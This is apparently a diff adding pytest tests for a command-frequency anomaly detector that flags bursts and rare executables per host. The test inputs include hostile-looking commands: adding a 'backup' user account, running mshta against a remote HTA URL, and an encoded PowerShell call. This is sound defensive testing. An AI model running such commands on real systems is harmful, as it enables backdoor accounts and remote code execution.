@@ -0,0 +1,59 @@
+from frequency import FrequencyTracker, load_tracker, FREQUENCY_WEIGHT, HISTORY_WEIGHT
+
+
+def test_burst_detected_after_quiet_baseline():
+    tracker = FrequencyTracker(started=0.0)
+    # Half an hour of ordinary traffic, one command every 10 seconds
+    for i in range(180):
+        assert tracker.observe(f"dir C:\\logs\\{i % 5}", now=i * 10.0) == (0.0, [])
+
+    results = [tracker.observe("net user backup P@ss /add", now=1800.0 + i) for i in range(30)]
+    assert results[0] == (0.0, [])
+    bonus, labels = results[-1]
+    assert "frequency:burst" in labels and bonus >= FREQUENCY_WEIGHT
+
+
+def test_rare_executable_after_warmup():
+    tracker = FrequencyTracker(started=0.0)
+    for i in range(600):
+        tracker.observe(f"ping 10.0.0.{i % 50}", now=i * 1.0)
+    assert tracker.observe("mshta http://x/a.hta", now=601.0) == (HISTORY_WEIGHT, ["history:rare-executable"])
+    assert tracker.observe("ping 10.0.0.1", now=602.0) == (0.0, [])
+
+
+def test_apply_only_raises_behavior_verdicts():
+    tracker = FrequencyTracker(started=0.0)
+    for i in range(600):
+        tracker.observe("ipconfig", now=i * 1.0)
+    rule = {"verdict": "malicious", "reason": "Rule-Based: matched 'x'"}
+    assert tracker.apply("powershell -enc AAA", rule, now=601.0) is rule
+
+    result = tracker.apply("mshta /c create", {"verdict": "legitimate", "reason": "Behavior-Based: ..."},
+                           now=602.0)
+    assert result["reason"].endswith("'history:rare-executable']")
+
+
+def test_checkpoint_round_trip(tmp_path):
+    path = str(tmp_path / "frequency.npz")
+    tracker = FrequencyTracker(started=100.0)
+    for i in range(25):
+        tracker.observe("whoami", source="host-a", now=100.0 + i)
+    tracker.save(path)
+
+    restored = load_tracker(path)
+    assert restored.started == 100.0
+    assert restored.long.total() == 25
+    assert (restored.short.table == tracker.short.table).all()
+
+    # A checkpoint with other sketch sizes is ignored instead of misread
+    assert load_tracker(path, width=1024).long.total() == 0
+
+
+def test_quiet_source_needs_its_own_warmup():
+    tracker = FrequencyTracker(started=0.0)
+    for i in range(600):
+        tracker.observe(f"ping 10.0.0.{i % 50}", source="busy-host", now=i * 1.0)
+    # The busy host's history says nothing about a host that just appeared
+    assert tracker.observe("mshta http://x/a.hta", source="new-host", now=601.0) == (0.0, [])
+    assert tracker.observe("mshta http://x/a.hta", source="busy-host", now=602.0) == \
+        (HISTORY_WEIGHT, ["history:rare-executable"])